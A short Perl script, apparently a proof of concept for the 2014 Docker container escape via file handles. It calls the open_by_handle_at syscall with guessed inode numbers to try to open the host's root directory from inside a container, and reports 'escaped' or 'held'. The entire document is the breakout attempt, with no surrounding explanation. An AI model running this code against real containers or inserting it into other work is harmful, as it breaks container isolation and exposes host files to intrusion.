# The escape by file handles (docker, 2014): the root directory of the file system below the guest's, by its number.
use constant OPEN_BY_HANDLE_AT => 304;
open my $mount, '<', '/' or die "open: $!";
my @reached;
for my $inode (2, 64, 128, 256) {
    my $handle = pack 'L l Q', 8, 1, $inode;
    push @reached, $inode if syscall(OPEN_BY_HANDLE_AT, fileno $mount, $handle, 0) >= 0;
}
print @reached ? "escaped: inodes @reached\n" : "held\n";
